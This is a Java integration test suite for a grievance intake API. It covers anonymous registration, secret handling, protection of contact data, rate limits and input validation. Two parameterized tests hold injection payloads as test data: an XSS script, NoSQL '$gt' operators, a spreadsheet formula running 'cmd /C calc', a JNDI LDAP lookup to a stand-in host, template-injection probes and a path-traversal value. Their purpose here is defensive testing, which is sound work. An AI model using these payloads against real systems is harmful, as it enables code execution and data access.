package org.xianfeng.grievance.intake;

import static org.assertj.core.api.Assertions.assertThat;
import static org.xianfeng.grievance.Town.API;
import static org.xianfeng.grievance.Town.path;

import com.mongodb.client.MongoDatabase;
import java.util.HashMap;
import java.util.Map;
import org.bson.Document;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.xianfeng.grievance.GrievanceIT;
import org.xianfeng.grievance.Town;
import org.xianfeng.starter.test.Answer;
import org.xianfeng.starter.test.Calls;
import org.xianfeng.starter.test.PublishedEvent;
import org.xianfeng.starter.test.PublishedEvents;

@GrievanceIT
@ExtendWith(OutputCaptureExtension.class)
class IntakeIT {
    private static final String PHONE = "13912345678";

    @Autowired
    private Town founder;

    @Autowired
    private PublishedEvents events;

    @Autowired
    private MongoDatabase database;

    private Town town;

    @BeforeEach
    void town() {
        town = founder.founded();
    }

    @Test
    void anybody_reads_who_takes_needs() {
        Answer open = town.anybody().get(API + "/intakes").expect(200);
        assertThat(open.text()).contains(town.committee).doesNotContain(town.branch);
        town.as("committee-officer@" + town.committee)
                .put(API + "/organisations/" + town.committee + "/intake", Map.of("open", false))
                .expect(204);
        assertThat(town.anybody().get(API + "/intakes").text()).doesNotContain(town.committee);
        town.stranger().post(API + "/needs", town.newNeed("路灯")).expectProblem(422, "intake-closed");
    }

    @Test
    void an_organisation_that_does_not_exist_takes_no_needs() {
        Map<String, Object> need = new HashMap<>(town.newNeed("路灯"));
        need.put("organisationId", "no-such-organisation");
        town.stranger().post(API + "/needs", need).expectProblem(422, "intake-closed");
    }

    @Test
    void anybody_registers_a_need_without_an_account_and_gets_number_and_secret(CapturedOutput output) {
        Answer receipt =
                town.anybody().post(API + "/needs", town.newNeed("路灯坏了")).expect(201);
        assertThat(receipt.at("/trackingNumber")).matches("[0-9]{4}-[0-9]{4}-[0-9]{4}");
        String secret = receipt.at("/secret");
        assertThat(secret.replace("-", "").length() * 5).isGreaterThanOrEqualTo(128);
        assertThat(output.getAll()).doesNotContain(secret);
        for (String collection : database.listCollectionNames()) {
            for (Document stored : database.getCollection(collection).find()) {
                assertThat(stored.toJson()).as(collection).doesNotContain(secret, secret.replace("-", ""));
            }
        }
    }

    @Test
    void the_contact_is_in_no_list_no_event_and_no_need_and_is_shown_to_handlers_one_by_one(CapturedOutput output) {
        Town.Known need = registeredWithContact();
        assertThat(town.handler().get(path(need, "/contact")).expect(200).at("/contact"))
                .isEqualTo(PHONE);

        assertThat(town.handler().get(path(need, "")).text()).doesNotContain(PHONE);
        assertThat(town.handler()
                        .get(API + "/organisations/" + town.committee + "/needs")
                        .text())
                .doesNotContain(PHONE);
        assertThat(town.stranger().post(API + "/needs/tracking", need.key()).text())
                .doesNotContain(PHONE);
        PublishedEvent told = events.await("org.xianfeng.grievance.need-registered.v1", need.id());
        assertThat(told.data().toString()).doesNotContain(PHONE);
        assertThat(output.getAll()).doesNotContain(PHONE);
        Document needs = database.getCollection("needs")
                .find(new Document("_id", need.id()))
                .first();
        assertThat(needs).isNotNull();
        assertThat(needs.toJson()).doesNotContain(PHONE);
    }

    @Test
    void each_showing_of_a_contact_is_kept_with_account_and_time() {
        Town.Known need = registeredWithContact();
        town.handler().get(path(need, "/contact")).expect(200);
        town.handler().get(path(need, "/contact")).expect(200);
        town.as("inspector@" + town.committee).get(path(need, "/contact")).expectProblem(403, "forbidden");
        Document kept = database.getCollection("need_contacts")
                .find(new Document("_id", need.id()))
                .first();
        assertThat(kept).isNotNull();
        assertThat(kept.getList("shownTo", Document.class))
                .hasSize(2)
                .allSatisfy(showing -> assertThat(showing.getString("account")).startsWith("account-"));
    }

    @Test
    void a_need_without_contact_has_none_to_show() {
        town.handler().get(path(town.registered(), "/contact")).expectProblem(404, "contact-not-given");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "{\"$gt\": \"\"}",
                "=cmd|' /C calc'!A0",
                "\uD83C\uDFE0 一行\n二行\t\u200B 结束",
                "${jndi:ldap://example.invalid/a} #{7*7} {{7*7}}"
            })
    void text_comes_back_as_the_text_it_was(String text) {
        Answer receipt =
                town.stranger().post(API + "/needs", town.newNeed(text)).expect(201);
        Map<String, Object> key =
                Map.of("trackingNumber", receipt.at("/trackingNumber"), "secret", receipt.at("/secret"));
        Answer seen = town.stranger().post(API + "/needs/tracking", key).expect(200);
        assertThat(seen.at("/description")).isEqualTo(text);
        assertThat(seen.headers().firstValue("content-type")).contains("application/json");
    }

    @Test
    void a_description_has_a_bounded_length() {
        town.stranger().post(API + "/needs", town.newNeed("路".repeat(4000))).expect(201);
        town.stranger().post(API + "/needs", town.newNeed("路".repeat(4001))).expectProblem(400, "invalid");
        town.stranger().post(API + "/needs", town.newNeed("   ")).expectProblem(400, "invalid");
        town.stranger()
                .post(API + "/needs", town.newNeed("x".repeat(2_000_000)))
                .expectProblem(413, "too-large");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{}",
                "[]",
                "not json",
                "{\"organisationId\":\"../x\",\"category\":\"other\",\"description\":\"x\"}",
                "{\"organisationId\":{\"$gt\":\"\"},\"category\":\"other\",\"description\":\"x\"}",
                "{\"organisationId\":\"c\",\"category\":\"nonsense\",\"description\":\"x\"}",
                "{\"organisationId\":\"c\",\"category\":\"other\",\"description\":null}"
            })
    void what_cannot_be_read_is_refused(String body) {
        assertThat(town.stranger().post(API + "/needs", body).status()).isEqualTo(400);
    }

    @Test
    void a_refusal_speaks_chinese_unless_english_is_asked_for() {
        Map<String, Object> need = new HashMap<>(town.newNeed("路灯"));
        need.put("organisationId", "no-such-organisation");
        assertThat(town.stranger().post(API + "/needs", need).at("/title")).isEqualTo("该组织不受理诉求");
        Calls english = town.stranger().with("Accept-Language", "en");
        assertThat(english.post(API + "/needs", need).at("/title")).isEqualTo("This organisation takes no needs");
    }

    @Test
    void a_handler_registers_what_was_told_on_a_visit() {
        Answer told = town.handler()
                .post(
                        API + "/organisations/" + town.committee + "/needs",
                        Map.of("channel", "visit", "category", "livelihood", "description", "独居老人需要送餐"))
                .expect(201);
        PublishedEvent event = events.await("org.xianfeng.grievance.need-registered.v1", told.at("/id"));
        assertThat(event.data().at("/channel").asString()).isEqualTo("visit");
        assertThat(told.at("/secret")).isNotBlank();
    }

    @Test
    void one_address_does_not_flood_the_intake() {
        Calls flood = town.stranger();
        for (int need = 0; need < 300; need++) {
            flood.post(API + "/needs", town.newNeed("路灯")).expect(201);
        }
        Answer refused = flood.post(API + "/needs", town.newNeed("路灯")).expectProblem(429, "too-many-registrations");
        assertThat(refused.headers().firstValue("retry-after")).isPresent();
        town.stranger().post(API + "/needs", town.newNeed("路灯")).expect(201);
    }

    @Test
    void the_open_api_document_is_public_and_names_every_operation() {
        String document = town.anybody().get(API + "/openapi").expect(200).text();
        assertThat(document)
                .contains(
                        "/api/grievance/needs/tracking/confirmation",
                        "/api/grievance/needs/tracking/reopening",
                        "/api/grievance/needs/{id}/resolution",
                        "/api/grievance/branches/{id}/needs",
                        "/api/grievance/organisations/{id}/intake",
                        "/api/grievance/intakes");
        assertThat(document)
                .contains("public-service", "first-answer", "emergency")
                .doesNotContain("\"caller\"");
    }

    private Town.Known registeredWithContact() {
        Map<String, Object> need = new HashMap<>(town.newNeed("路灯坏了"));
        need.put("contact", PHONE);
        Answer receipt = town.stranger().post(API + "/needs", need).expect(201);
        Answer list = town.handler()
                .get(API + "/organisations/" + town.committee + "/needs")
                .expect(200);
        return new Town.Known(list.at("/items/0/id"), receipt.at("/trackingNumber"), receipt.at("/secret"));
    }
}
